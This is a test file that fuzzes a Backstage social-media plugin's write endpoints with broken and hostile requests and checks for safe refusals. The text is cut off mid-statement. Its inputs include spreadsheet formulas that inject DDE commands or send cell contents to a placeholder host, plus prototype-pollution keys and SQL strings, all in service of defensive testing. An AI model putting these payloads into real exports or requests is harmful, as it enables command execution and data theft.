/*
 * Property-based fuzzing of every write endpoint the OpenAPI spec publishes (POST, PUT, PATCH,
 * DELETE), against the real plugin in a test backend, as a caller every permission allows, so
 * that only validation stands between a request and the store.
 *
 * Each case takes a valid request of its operation and breaks it: one field of the wrong type,
 * out of range, missing, or given hostile text (lone surrogates, right-to-left and zero-width
 * marks, NUL, huge strings, formulas, SQL); an unknown key, `__proto__`, `constructor` or
 * `prototype` among them; any JSON at all; malformed or deeply nested JSON text; an oversized
 * body; a wrong content type; an odd path parameter (`..`, unicode, very long) or query. Every
 * answer must be below 500, with no SQL or stack trace in it; a refusal must leave the store and
 * the audit trail as they were; a request with one field of a type or value the spec refuses
 * must get a 400 whose message and `fields` name that field.
 *
 * The seed is fixed and printed; SOCIAL_MEDIA_FUZZ_SEED changes it, SOCIAL_MEDIA_FUZZ_CASES and
 * SOCIAL_MEDIA_FUZZ_POSTGRES_CASES the number of cases on SQLite and on PostgreSQL.
 */
import {
  mockCredentials,
  mockServices,
  startTestBackend,
  TestDatabaseId,
} from '@backstage/backend-test-utils';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import { ItsmConnector } from '@internal/plugin-social-media-node';
import fc from 'fast-check';
import { Knex } from 'knex';
import { createHash } from 'node:crypto';
import { Agent, request as httpRequest, Server } from 'node:http';
import { parse as parseCsv } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import request from 'supertest';
import { connectorsModule } from '../__testUtils__/apiTestBackend';
import { placeholderDescription } from '../__testUtils__/connectorDescription';
import {
  anyJson,
  deepJsonText,
  fieldTargets,
  isObject,
  JsonSchema,
  MALFORMED_JSON,
  objectTargets,
  oddPathSegment,
  oddText,
  oddValue,
  outOfRangeValue,
  POLLUTION_KEYS,
  POLLUTION_MARKER,
  pollutionPayload,
  withoutValueAt,
  withValueAt,
  WriteOperation,
  writeOperations,
  wrongTypeValue,
} from '../__testUtils__/openApiFuzz';
import { organisationFactories, userRef } from '../__testUtils__/organisation';
import { createTestDatabases } from '../__testUtils__/testDatabases';
import { socialMediaPlugin } from '../plugin';
import { spec } from '../schema/openapi.generated';

jest.setTimeout(900_000);

const SEED = Number(process.env.SOCIAL_MEDIA_FUZZ_SEED ?? 20261125);
const CASES: Record<string, number> = {
  SQLITE_3: Number(process.env.SOCIAL_MEDIA_FUZZ_CASES ?? 10_200),
  POSTGRES: Number(process.env.SOCIAL_MEDIA_FUZZ_POSTGRES_CASES ?? 1_000),
};
const API = '/api/social-media';
/**
 * Refusals checked against a digest of every row at once: the store is digested at most once
 * per this many cases; each refusal also gets the cheap check (counts, versions, audit head).
 */
const FULL_CHECK_BATCH = 50;
const AUDIT_LOG = 'social_media_audit_log';
/** An answer this slow to one request is a denial of service waiting to happen. */
const SLOW_ANSWER_MS = 5_000;
/** The body parser's limit (the router's `jsonLimit`). */
const JSON_LIMIT_BYTES = 8 * 1024 * 1024;

const OPERATIONS = writeOperations(spec as any);
const { databases, ids } = createTestDatabases();

/** The caller: every permission allows them; they are in every group that decides. */
const CALLER = 'portal-admin';
const PEOPLE: Record<string, string[]> = {
  [CALLER]: ['communications', 'it-service-management', 'security-office'],
  'marketing-lead': ['marketing'],
  'communications-lead': ['communications'],
};
const as = (name: string) => mockCredentials.user.header(userRef(name));

/** A connector whose ITSM answers: no incidents changed, and each report becomes one. */
function workingConnector(id: string): ItsmConnector {
  let next = 0;
  return {
    id,
    description: placeholderDescription(id),
    async listIncidentsChangedSince() {
      return { incidents: [], nextCursor: 'none', done: true };
    },
    async getIncident() {
      return undefined;
    },
    async createIncident(incident) {
      next += 1;
      const now = new Date().toISOString();
      return {
        externalId: `fuzz-${next}`,
        number: `INC${String(next).padStart(7, '0')}`,
        title: incident.title,
        priority: '3',
        state: 'New',
        category: incident.category,
        openedAt: now,
        updatedAt: now,
        url: `https://itsm.example.invalid/incident/${next}`,
        serviceId: incident.mapping.serviceId,
      };
    },
  };
}

type Json = any;

/** One request the fuzzing sends, and what it knows about it. */
interface FuzzCase {
  kind: string;
  method: string;
  url: string;
  body?: { text: string; contentType: string };
  /**
   * The one field the spec refuses (wrong type, out of range, missing, unknown): the answer
   * must be a 400 naming it.
   */
  badField?: Array<string | number>;
  /** An unknown key put into the body; the 400 must name it. */
  unknownKey?: string;
}

/** Formulas a spreadsheet runs, DDE links among them. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
  "=1+1+cmd|' /C calc'!A0",
  '=SUM(1,2)',
  '=A1',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

/** Whether text holds NUL, or half of a surrogate pair alone. */
const unstorable = (text: string) =>
  text.includes('\u0000') ||
  /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(
    text,
  );

/** What a cell a spreadsheet runs starts with. */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Text that must never reach a client: database errors, SQL, stack traces. */
const LEAKS: Array<[string, RegExp]> = [
  ['a stack trace', /\n\s+at [^\n]+:\d+:\d+/],
  ['a file path', /(?:node_modules|\/src\/[\w/]+\.ts)/],
  ['a database error', /SQLITE_|SqliteError|KnexTimeoutError|knex:/i],
  [
    'PostgreSQL text',
    /(?:relation "|violates (?:not-null|check|unique)|SQLSTATE|invalid byte sequence|syntax error at or near)/i,
  ],
  [
    'SQL',
    /\b(?:select\s+[\w*", ]+\s+from|insert\s+into|update\s+"?\w+"?\s+set|delete\s+from)\b/i,
  ],
];

function leaksIn(text: string, sent: string): string[] {
  return LEAKS.filter(
    ([, pattern]) => pattern.test(text) && !pattern.test(sent),
  ).map(([what]) => what);
}

function excerpt(text: string | undefined, max = 400): string {
  if (text === undefined) return '(none)';
  if (text.length <= max) return text;
  return `${text.slice(0, max)}… (${text.length} characters)`;
}

/**
 * What the store holds, cheaply (row counts and version sums of every table, the audit trail's
 * length and head) and fully (a digest of every row of every table).
 */
async function storeProbe(knex: Knex) {
  const client = knex.client.config.client as string;
  const tables: string[] = (
    client.includes('sqlite')
      ? await knex('sqlite_master')
          .where({ type: 'table' })
          .whereNot('name', 'like', 'sqlite_%')
          .pluck('name')
      : await knex('information_schema.tables')
          .where({ table_type: 'BASE TABLE' })
          .whereRaw('table_schema = current_schema()')
          .pluck('table_name')
  )
    .filter(name => !/knex/.test(name))
    .sort();
  if (!tables.includes(AUDIT_LOG)) {
    throw new Error(`The audit trail is not among the tables: ${tables}`);
  }
  const columns: Record<string, string[]> = {};
  for (const table of tables) {
    columns[table] = Object.keys(await knex(table).columnInfo());
  }
  const selects = tables.flatMap(table => [
    `(select count(*) from "${table}") as "${table}"`,
    ...(columns[table].includes('version')
      ? [
          `(select coalesce(sum(version), 0) from "${table}") as "${table}.version"`,
        ]
      : []),
    ...(columns[table].includes('updated_at')
      ? [`(select max(updated_at) from "${table}") as "${table}.updated_at"`]
      : []),
  ]);
  selects.push(
    `(select coalesce(max(seq), 0) from "${AUDIT_LOG}") as "audit head"`,
  );
  const cheapSql = `select ${selects.join(', ')}`;
  return {
    tables,
    /** Row counts, version sums and the audit head, as one line of text. */
    async cheap(): Promise<string> {
      const result = await knex.raw(cheapSql);
      const row = client.includes('sqlite') ? result[0] : result.rows[0];
      return Object.entries(row)
        .map(([k, v]) => `${k}=${String(v)}`)
        .join(' ');
    },
    /**
     * A digest of every row of each table, one line per table; the audit trail by its length
     * and head (in the cheap check), as its entries cannot change without breaking its chain.
     */
    async full(): Promise<string> {
      const lines: string[] = [];
      for (const table of tables.filter(t => t !== AUDIT_LOG)) {
        const rows = (await knex(table).select()).map(r =>
          JSON.stringify(r, (_k, v) => {
            if (typeof v === 'bigint') return String(v);
            return v instanceof Date ? v.toISOString() : v;
          }),
        );
        lines.push(
          `${table} ${createHash('sha256')
            .update(rows.sort().join('\n'))
            .digest('hex')}`,
        );
      }
      return lines.join('\n');
    },
  };
}

type Call = (
  method: string,
  url: string,
  body?: unknown,
  who?: string,
) => request.Test;

let fixtureCount = 0;
const unique = () => {
  fixtureCount += 1;
  return fixtureCount;
};

/** A valid new service, unique by its handle and name. */
function newServiceBody(n: number) {
  return {
    name: `Fuzz Brand ${n}`,
    platform: 'instagram',
    handle: `fuzzbrand${n}`,
    profileUrl: `https://www.instagram.com/fuzzbrand${n}`,
    purpose: 'Brand storytelling',
    businessUnit: 'Marketing',
    ownerGroup: 'group:default/marketing',
    serviceOwner: userRef('marketing-lead'),
    businessRequester: userRef('communications-lead'),
    audienceSize: 1200,
    tags: ['brand', 'fuzz'],
    controls: {
      mfaEnabled: true,
      mfaMethod: 'security-key',
      ssoEnabled: false,
      credentialVaultRef: `vault://social/fuzz-${n}`,
      sharedLogin: false,
      thirdPartyApps: [{ name: 'Scheduler', scopes: ['publish'] }],
      verified: true,
      recoveryOwnedByCompany: true,
    },
    itsm: { system: 'servicenow', reference: `Social media ${n}` },
  };
}

/** A valid request for a new service, unique by its handle. */
function serviceRequestBody(n: number) {
  return {
    platform: 'linkedin',
    name: `Fuzz Careers ${n}`,
    handle: `fuzz-careers-${n}`,
    profileUrl: `https://www.linkedin.com/company/fuzz-careers-${n}`,
    purpose: 'Job posts',
    audience: 'Graduates',
    regions: ['EU', 'UK'],
    businessUnit: 'Human Resources',
    requestingTeam: 'group:default/marketing',
    ownerGroup: 'group:default/marketing',
    serviceOwner: userRef('marketing-lead'),
    targetDate: '2099-03-01',
    questionnaire: {
      regulatedContent: false,
      brandLevel: true,
      expectedAudience: 5000,
      whoPosts: 'The recruiting team',
      thirdPartyTools: ['Scheduler'],
    },
  };
}

const TRANSFER_CHECKLIST_DONE = {
  'admins-reviewed': true,
  'credentials-rotated': true,
  'recovery-email-changed': true,
  'recovery-phone-changed': true,
};
const RETIREMENT_CHECKLIST_DONE = {
  'content-archived': true,
  'admins-removed': true,
  'third-party-apps-revoked': true,
  'credentials-removed': true,
};

type FixturePart = 'service' | 'requests' | 'handovers';
const ALL_PARTS: ReadonlySet<FixturePart> = new Set([
  'service',
  'requests',
  'handovers',
]);

/**
 * The records the cases aim at: a service, a draft request and a submitted one, a transfer
 * filed by the caller and one filed by someone else. A case that succeeds may change or end
 * one; {@link refresh} reads them again and replaces what is gone.
 */
class Fixtures {
  service!: Json;
  draft!: Json;
  submitted!: Json;
  ownTransfer!: Json;
  othersTransfer!: Json;

  /** Fixtures a success may have changed since they were read. */
  private readonly stale = new Set<FixturePart>(ALL_PARTS);

  constructor(private readonly call: Call) {}

  /** Notes that a success may have changed `parts`; they are read again when next used. */
  changed(parts: ReadonlySet<FixturePart>) {
    for (const part of parts) this.stale.add(part);
  }

  /** Reads again those of `parts` that may have changed; true when it did. */
  async fresh(parts: ReadonlySet<FixturePart>): Promise<boolean> {
    const due = new Set([...parts].filter(p => this.stale.has(p)));
    if (due.size === 0) return false;
    await this.refresh(due);
    return true;
  }

  private async expectOk(res: request.Response, what: string) {
    if (res.status >= 300) {
      throw new Error(
        `Could not set up ${what}: ${res.status} ${excerpt(res.text)}`,
      );
    }
    return res.body;
  }

  private async newService(owner = 'group:default/marketing') {
    const body = { ...newServiceBody(unique()), ownerGroup: owner };
    return this.expectOk(
      await this.call('post', '/services', body, 'marketing-lead'),
      'a service',
    );
  }

  private async newTransfer(who: string) {
    const service = await this.newService();
    return this.expectOk(
      await this.call(
        'post',
        `/services/${service.id}/handovers`,
        {
          kind: 'transfer',
          toOwnerGroup: 'group:default/communications',
          toServiceOwner: userRef('communications-lead'),
          reason: 'The communications team runs it from now on',
          version: service.version,
        },
        who,
      ),
      'a transfer',
    );
  }

  private async newRequest(who: string, submit: boolean) {
    return this.expectOk(
      await this.call(
        'post',
        '/requests',
        { ...serviceRequestBody(unique()), submit },
        who,
      ),
      'a service request',
    );
  }

  private async reread(url: string): Promise<Json | undefined> {
    const res = await this.call('get', url);
    return res.status === 200 ? res.body : undefined;
  }

  /**
   * Reads the fixtures of `parts` again (all by default); replaces those that are gone or no
   * longer waiting.
   */
  async refresh(parts: ReadonlySet<FixturePart> = ALL_PARTS) {
    for (const part of parts) this.stale.delete(part);
    if (parts.has('service')) {
      const service = this.service
        ? await this.reread(`/services/${this.service.id}`)
        : undefined;
      this.service =
        service && service.lifecycleStage !== 'retired'
          ? service
          : await this.reread(`/services/${(await this.newService()).id}`);
    }
    if (parts.has('requests')) {
      const draft = this.draft
        ? await this.reread(`/requests/${this.draft.id}`)
        : undefined;
      this.draft =
        draft?.status === 'draft'
          ? draft
          : await this.newRequest(CALLER, false);
      const submitted = this.submitted
        ? await this.reread(`/requests/${this.submitted.id}`)
        : undefined;
      this.submitted =
        submitted?.status === 'submitted'
          ? submitted
          : await this.newRequest('marketing-lead', true);
    }
    if (parts.has('handovers')) {
      const own = this.ownTransfer
        ? await this.reread(`/handovers/${this.ownTransfer.id}`)
        : undefined;
      this.ownTransfer =
        own?.status === 'submitted' ? own : await this.newTransfer(CALLER);
      const others = this.othersTransfer
        ? await this.reread(`/handovers/${this.othersTransfer.id}`)
        : undefined;
      this.othersTransfer =
        others?.status === 'submitted'
          ? others
          : await this.newTransfer('marketing-lead');
    }
  }
}

/** The fixtures the cases of an operation aim at: those its path names. */
function fixturesUsedBy(op: WriteOperation): ReadonlySet<FixturePart> {
  const names = op.pathParameters.map(p => p.name);
  const parts = new Set<FixturePart>();
  if (names.includes('id')) parts.add('service');
  if (names.includes('requestId')) parts.add('requests');
  if (names.includes('handoverId')) parts.add('handovers');
  return parts;
}

/**
 * The fixtures a successful call of an operation may have changed: those its path names, and
 * the service for the rest (a sweep or a sync may rate it again).
 */
function fixturesChangedBy(op: WriteOperation): ReadonlySet<FixturePart> {
  const parts = new Set(fixturesUsedBy(op));
  if (op.pathParameters.length === 0) parts.add('service');
  return parts;
}

/** The plugin in a test backend, its database, and the fixtures the cases aim at. */
async function startHarness(databaseId: TestDatabaseId) {
  const knex = await databases.init(databaseId);
  const { server } = await startTestBackend({
    features: [
      socialMediaPlugin,
      connectorsModule([workingConnector('servicenow')]),
      mockServices.database.factory({ knex }),
      mockServices.permissions.factory({ result: AuthorizeResult.ALLOW }),
      ...organisationFactories(PEOPLE),
    ],
  });
  const agent = request(server);
  // One connection for all the cases, as a busy client keeps it.
  const keepAlive = new Agent({ keepAlive: true, maxSockets: 1 });
  const call = (
    method: string,
    url: string,
    body?: unknown,
    who: string = CALLER,
  ) => {
    const req = (agent as any)
      [method](`${API}${url}`)
      .agent(keepAlive)
      .set('Authorization', as(who)) as request.Test;
    return body === undefined ? req : req.send(body as object);
  };
  const store = await storeProbe(knex);
  const fixtures = new Fixtures(call);
  await fixtures.refresh();
  const port = ((server as Server).address() as { port: number }).port;
  return { port, keepAlive, call, store, fixtures };
}

/** The service's fields as an edit sends them back. */
function editOfService(s: Json) {
  const { riskAssessedAt: _assessed, ...controls } = s.controls ?? {};
  return Object.fromEntries(
    Object.entries({
      name: s.name,
      platform: s.platform,
      handle: s.handle,
      profileUrl: s.profileUrl,
      purpose: s.purpose,
      businessUnit: s.businessUnit,
      ownerGroup: s.ownerGroup,
      serviceOwner: s.serviceOwner,
      businessRequester: s.businessRequester,
      audienceSize: s.audienceSize,
      tags: s.tags,
      controls,
      itsm: s.itsm,
      version: s.version,
    }).filter(([, v]) => v !== undefined),
  );
}

/**
 * A valid request body per operation, from the fixtures as they stand. An operation the spec
 * gains later is fuzzed all the same, from a body made of its schema's required fields; a
 * seed here lets its cases reach past validation too.
 */
const SEEDS: Record<string, (fx: Fixtures) => Json> = {
  createService: () => newServiceBody(unique()),
  updateService: fx => editOfService(fx.service),
  transitionService: fx => ({
    to:
      fx.service.nextTransitions?.find((t: Json) => t.allowed)?.to ?? 'design',
    reason: 'Ready for the next stage',
    version: fx.service.version,
  }),
  replaceServiceAdmins: fx => ({
    admins: [
      {
        account: 'brand-admin@example.com',
        userRef: userRef('marketing-lead'),
        role: 'admin',
      },
      { account: 'agency-editor@example.com', role: 'editor' },
    ],
    version: fx.service.version,
  }),
  reportServiceIncident: () => ({
    title: 'Suspicious sign-in',
    description: 'A sign-in from an unknown device at 02:00',
    category: 'account-takeover',
  }),
  importServices: () => {
    const n = unique();
    return {
      format: 'csv',
      content: `name,platform,handle,purpose,businessUnit,ownerGroup,mfaEnabled,tags\nFuzz Import ${n},linkedin,fuzz-import-${n},Employer brand,Human Resources,group:default/marketing,yes,brand;fuzz\n`,
      dryRun: true,
    };
  },
  submitAccessReview: fx => ({
    version: fx.service.version,
    decisions: (fx.service.admins ?? []).map((a: Json) => ({
      account: a.account,
      decision: 'keep',
      reason: 'Still posts for the team',
    })),
    note: 'Quarterly review',
  }),
  signOffRisk: fx => ({
    rating: fx.service.riskRating ?? 'low',
    note: 'Accepted with the controls in place',
  }),
  previewServiceRequest: () => serviceRequestBody(unique()),
  fileServiceRequest: () => ({
    ...serviceRequestBody(unique()),
    submit: false,
  }),
  editServiceRequest: fx => ({
    ...serviceRequestBody(unique()),
    version: fx.draft.version,
  }),
  submitServiceRequest: fx => ({
    version: fx.draft.version,
    comment: 'Ready',
  }),
  withdrawServiceRequest: fx => ({
    version: fx.draft.version,
    comment: 'No longer needed',
  }),
  decideServiceRequest: fx => ({
    decision: 'approve',
    comment: 'Approved',
    version: fx.submitted.version,
  }),
  fileHandover: fx => ({
    kind: 'retirement',
    reason: 'The campaign ended',
    handle: 'kept',
    checklist: RETIREMENT_CHECKLIST_DONE,
    version: fx.service.version,
  }),
  decideHandover: fx => ({
    decision: 'accept',
    comment: 'Welcome',
    checklist: TRANSFER_CHECKLIST_DONE,
    version: fx.othersTransfer.version,
  }),
  withdrawHandover: fx => ({
    version: fx.ownTransfer.version,
    comment: 'Filed by mistake',
  }),
  runCmdbExport: () => ({ dryRun: true }),
};

/** A body made of the schema's required fields, for an operation without a seed. */
function minimalBody(schema: JsonSchema): Json {
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  if (schema.enum) return schema.enum[0];
  switch (type) {
    case 'object':
    case undefined:
      return Object.fromEntries(
        (schema.required ?? []).map(key => [
          key,
          minimalBody(schema.properties?.[key] ?? {}),
        ]),
      );
    case 'array':
      return [];
    case 'integer':
    case 'number':
      return Math.max(1, schema.minimum ?? 1);
    case 'boolean':
      return true;
    default:
      return 'text';
  }
}

/** The value of a path parameter that names a fixture. */
function pathValue(op: WriteOperation, name: string, fx: Fixtures): string {
  if (name === 'id') return fx.service.id;
  if (name === 'requestId') {
    return String(
      op.operationId === 'decideServiceRequest' ? fx.submitted.id : fx.draft.id,
    );
  }
  if (name === 'handoverId') {
    return String(
      op.operationId === 'decideHandover'
        ? fx.othersTransfer.id
        : fx.ownTransfer.id,
    );
  }
  // The installed connector: a valid body reaches the export (which this connector cannot do).
  if (name === 'connectorId') return 'servicenow';
  return 'fuzz';
}

/** The value of a query parameter that a valid call gives. */
function queryValue(op: WriteOperation, name: string, fx: Fixtures): string {
  if (op.operationId === 'deleteService' && name === 'version') {
    return String(fx.service.version);
  }
  return '1';
}

const pick = <T>(g: fc.GeneratorValue, values: readonly T[]): T =>
  g(fc.constantFrom, ...values);

function weighted<T extends string>(
  g: fc.GeneratorValue,
  weights: Record<T, number>,
): T {
  const entries = Object.entries(weights).filter(([, w]) => (w as number) > 0);
  return g(() =>
    fc.oneof(
      ...entries.map(([value, weight]) => ({
        arbitrary: fc.constant(value as T),
        weight: weight as number,
      })),
    ),
  );
}

const jsonBody = (value: unknown) => ({
  text: JSON.stringify(value) ?? 'null',
  contentType: 'application/json',
});

/** One case of an operation: a valid call, broken in one way. */
function buildCase(
  g: fc.GeneratorValue,
  op: WriteOperation,
  fx: Fixtures,
): FuzzCase {
  const pathValues = Object.fromEntries(
    op.pathParameters.map(p => [
      p.name,
      encodeURIComponent(pathValue(op, p.name, fx)),
    ]),
  );
  const query: Record<string, string> = Object.fromEntries(
    op.queryParameters
      .filter(p => p.required)
      .map(p => [p.name, queryValue(op, p.name, fx)]),
  );
  const seed: Json = op.body
    ? (SEEDS[op.operationId] ?? (() => minimalBody(op.body!.schema)))(fx)
    : undefined;
  let body = seed === undefined ? undefined : jsonBody(seed);
  const result: Omit<FuzzCase, 'method' | 'url'> = { kind: 'valid' };

  const kind = weighted(g, {
    field: op.body ? 600 : 0,
    'unknown key': op.body ? 100 : 0,
    'any JSON': 80,
    malformed: 40,
    'deep nesting': 30,
    'wrong content type': 20,
    oversized: 3,
    'odd path': op.pathParameters.length ? 80 : 0,
    'odd query': op.queryParameters.length ? 120 : 0,
    'unknown query': 30,
    valid: op.body ? 0 : 100,
  });
  result.kind = kind;

  if (kind === 'field') {
    const targets = fieldTargets(op.body!.schema, seed);
    const target = pick(g, targets);
    const how = weighted(g, {
      'wrong type': wrongTypeValue(target.schema) ? 30 : 0,
      'out of range': outOfRangeValue(target.schema) ? 15 : 0,
      missing: 15,
      odd: 40,
    });
    result.kind = `${how} ${target.path.join('.')}`;
    if (how === 'wrong type' || how === 'out of range') {
      const value = g(() =>
        how === 'wrong type'
          ? wrongTypeValue(target.schema)!
          : outOfRangeValue(target.schema)!,
      );
      body = jsonBody(withValueAt(seed, target.path, value));
      result.badField = target.path;
    } else if (how === 'missing') {
      body = jsonBody(withoutValueAt(seed, target.path));
      const last = target.path[target.path.length - 1];
      if (target.required && typeof last === 'string') {
        result.badField = target.path;
      }
    } else {
      body = jsonBody(
        withValueAt(
          seed,
          target.path,
          g(() => oddValue(target.schema)),
        ),
      );
    }
  } else if (kind === 'unknown key') {
    const objects = objectTargets(op.body!.schema, seed);
    const parent = pick(g, objects);
    const key = g(() =>
      fc.oneof(
        fc.constantFrom(...POLLUTION_KEYS),
        fc.constantFrom('extra', 'Name', 'name ', 'toString', 'hasOwnProperty'),
        oddText().filter(k => k.trim() !== '' && !k.includes('\u0000')),
      ),
    );
    const known = Object.prototype.hasOwnProperty.call(
      parent.schema.properties ?? {},
      key,
    );
    const value = POLLUTION_KEYS.includes(key)
      ? (pollutionPayload(key) as Record<string, unknown>)[key]
      : g(() => anyJson());
    body = jsonBody(withValueAt(seed, [...parent.path, key], value));
    result.kind = `unknown key ${[...parent.path, key].join('.')}`;
    // Objects the spec types as a whole (a checklist) take other keys, if their values fit.
    if (!known && !parent.schema.additionalProperties) {
      result.unknownKey = key;
      result.badField = parent.path.length ? parent.path : undefined;
    }
  } else if (kind === 'any JSON') {
    body = jsonBody(g(() => anyJson()));
  } else if (kind === 'malformed') {
    body = {
      text: pick(g, MALFORMED_JSON),
      contentType: 'application/json',
    };
  } else if (kind === 'deep nesting') {
    const depth = g(fc.integer, { min: 1_000, max: 20_000 });
    const shape = pick(g, ['array', 'object'] as const);
    const deep = deepJsonText(depth, shape);
    const text =
      isObject(seed) && op.body
        ? JSON.stringify(seed).replace(
            /^\{/,
            `{"${pick(g, [...Object.keys(seed), 'extra'])}":${deep},`,
          )
        : deep;
    body = { text, contentType: 'application/json' };
    result.kind = `deep nesting (${depth}, ${shape})`;
  } else if (kind === 'wrong content type') {
    body = {
      text: body?.text ?? '{}',
      contentType: pick(g, [
        'text/plain',
        'application/x-www-form-urlencoded',
        'text/csv',
        'application/json; charset=utf-7',
        'application/xml',
      ]),
    };
  } else if (kind === 'oversized') {
    const filler = 'x'.repeat(JSON_LIMIT_BYTES + 1024);
    body = {
      text: JSON.stringify({ ...(isObject(seed) ? seed : {}), filler }),
      contentType: 'application/json',
    };
  } else if (kind === 'odd path') {
    const param = pick(g, op.pathParameters);
    pathValues[param.name] = g(oddPathSegment);
    result.kind = `odd path ${param.name}=${excerpt(
      pathValues[param.name],
      40,
    )}`;
  } else if (kind === 'odd query') {
    const param = pick(g, op.queryParameters);
    const how = pick(g, ['odd', 'missing', 'repeated', 'unknown'] as const);
    if (how === 'missing') delete query[param.name];
    else if (how === 'odd') {
      query[param.name] = g(() =>
        fc.oneof(
          oddText(),
          fc.constantFrom(
            '0',
            '-1',
            '1.5',
            '1e3',
            ' 1',
            '１',
            '0x1',
            '99999999999999999999',
          ),
        ),
      );
    } else if (how === 'repeated') {
      query[param.name] = `${query[param.name] ?? '1'}&${encodeURIComponent(
        param.name,
      )}=2`;
    } else {
      query[
        encodeURIComponentSafely(
          g(() => oddText().filter(k => k.trim() !== '')),
        )
      ] = '1';
    }
    result.kind = `${how} query ${param.name}`;
    if (how === 'missing' && param.required) result.badField = [param.name];
  } else if (kind === 'unknown query') {
    // The spec names every query parameter an operation takes; any other is refused.
    const known = new Set(op.queryParameters.map(p => p.name));
    const plain = g(fc.boolean);
    const key = plain
      ? g(() =>
          fc
            .stringMatching(/^[a-z][a-zA-Z0-9_]{0,15}$/)
            .filter(k => !known.has(k)),
        )
      : g(() => oddText().filter(k => k.trim() !== '' && !known.has(k)));
    query[encodeURIComponentSafely(key)] = g(oddText);
    if (plain) result.badField = [key];
    result.kind = `unknown query ${excerpt(key, 40)}`;
  } else if (kind === 'valid' && !op.body) {
    // Operations without a body ignore one; some send it anyway.
    if (g(fc.boolean)) body = jsonBody(g(() => anyJson()));
  }

  const path = op.path.replace(/\{(\w+)\}/g, (_m, name) => pathValues[name]);
  const queryText = Object.entries(query)
    .map(([k, v]) =>
      v.includes('&') ? `${k}=${v}` : `${k}=${encodeURIComponentSafely(v)}`,
    )
    .join('&');
  return {
    ...result,
    method: op.method,
    url: queryText ? `${path}?${queryText}` : path,
    ...(body ? { body } : {}),
  };
}

/** A query value with every reserved character encoded (lone surrogates as U+FFFD). */
function encodeURIComponentSafely(text: string): string {
  let encoded: string;
  try {
    encoded = encodeURIComponent(text);
  } catch {
    encoded = encodeURIComponent(text.replace(/[\ud800-\udfff]/g, '\ufffd'));
  }
  return encoded.replace(
    /[!'()*]/g,
    c => `%${c.charCodeAt(0).toString(16).toUpperCase()}`,
  );
}

/** An answer as the checks read it. */
interface Answer {
  status: number;
  text: string;
  body: Json;
}

/**
 * Sends a case as the caller, over plain HTTP so that the path goes out exactly as written
 * (`..` and all), on the one kept-alive connection.
 */
function send(port: number, keepAlive: Agent, c: FuzzCase): Promise<Answer> {
  const headers: Record<string, string | number> = {
    authorization: as(CALLER),
  };
  const payload = c.body ? Buffer.from(c.body.text, 'utf8') : undefined;
  if (c.body && payload) {
    headers['content-type'] = c.body.contentType;
    headers['content-length'] = payload.length;
  }
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      {
        host: '127.0.0.1',
        port,
        method: c.method.toUpperCase(),
        path: `${API}${c.url}`,
        headers,
        agent: keepAlive,
      },
      res => {
        const chunks: Buffer[] = [];
        res.on('data', chunk => chunks.push(chunk));
        res.on('end', () => {
          const text = Buffer.concat(chunks).toString('utf8');
          let body: Json = {};
          if (/json/.test(String(res.headers['content-type']))) {
            try {
              body = JSON.parse(text);
            } catch {
              body = {};
            }
          }
          resolve({ status: res.statusCode ?? 0, text, body });
        });
        res.on('error', reject);
      },
    );
    req.on('error', (error: Error & { code?: string }) => {
      // The server may answer an oversized body before reading it, and close the connection.
      const oversized = (payload?.length ?? 0) > JSON_LIMIT_BYTES;
      if (
        oversized &&
        (error.code === 'EPIPE' || error.code === 'ECONNRESET')
      ) {
        resolve({ status: 413, text: '', body: {} });
      } else {
        reject(error);
      }
    });
    req.end(payload);
  });
}

/** What is wrong with an answer to a case; empty when nothing is. */
function problemsWith(c: FuzzCase, res: Answer): string[] {
  const problems: string[] = [];
  const text = res.text ?? '';
  if (res.status >= 500) problems.push(`answered ${res.status}`);
  for (const leak of leaksIn(text, `${c.url}\n${c.body?.text ?? ''}`)) {
    problems.push(`the answer shows ${leak}`);
  }
  if (({} as any)[POLLUTION_MARKER] !== undefined) {
    problems.push('the request polluted Object.prototype');
  }
  if (res.status >= 400 && res.status < 500) {
    const error = res.body?.error;
    const report = res.body?.problems;
    // A path with an empty segment matches no route: the backend's plain 404.
    const noRoute = res.status === 404 && /\/\/|\/$|\/\?/.test(c.url);
    if (!error?.message && !Array.isArray(report) && !noRoute) {
      problems.push('the refusal has no error message');
    }
    if (
      res.status === 400 &&
      error?.name === 'InputError' &&
      !(Array.isArray(error.fields) && error.fields.length > 0)
    ) {
      problems.push('the 400 lists no fields');
    }
  }
  if (c.badField || c.unknownKey) {
    const error = res.body?.error;
    const fields: Array<{ field: string; message: string }> =
      error?.fields ?? [];
    const name = c.unknownKey ?? String(c.badField![0]);
    const top = c.badField ? String(c.badField[0]) : '';
    if (res.status !== 400) {
      problems.push(`expected a 400 naming ${name}, got ${res.status}`);
    } else if (!String(error?.message ?? '').includes(name)) {
      problems.push(`the message does not name ${name}`);
    } else if (
      !fields.some(f =>
        c.unknownKey && !c.badField
          ? // Unknown, or refused for what its value holds.
            (f.field === '' && f.message.includes(c.unknownKey)) ||
            f.field === c.unknownKey ||
            f.field.startsWith(`${c.unknownKey}.`)
          : f.field === top || f.field.startsWith(`${top}.`),
      )
    ) {
      problems.push(`the fields do not name ${c.unknownKey ?? top}`);
    }
  }
  return problems;
}

/** How many cases each operation gets of `total`: operations without a body get fewer. */
function casesPerOperation(total: number): Map<string, number> {
  const weight = (op: WriteOperation) => {
    if (op.body) return 8;
    return op.pathParameters.length ? 2 : 1;
  };
  const sum = OPERATIONS.reduce((n, op) => n + weight(op), 0);
  return new Map(
    OPERATIONS.map(op => [
      op.operationId,
      Math.max(20, Math.ceil((total * weight(op)) / sum)),
    ]),
  );
}

describe('the write operations the fuzzing finds in the spec', () => {
  it('are every POST, PUT, PATCH and DELETE, each with its path parameters and body', () => {
    const found = OPERATIONS.map(op => `${op.method} ${op.path}`);
    // Spot checks that the enumeration reads the spec, not a list of its own.
    expect(found).toContain('post /services');
    expect(found).toContain('delete /services/{id}');
    expect(found).toContain('post /import');
    expect(found).toContain('post /handovers/{handoverId}/withdraw');
    expect(found.filter(f => f.startsWith('get '))).toEqual([]);
    const counted = Object.values(spec.paths as Record<string, object>)
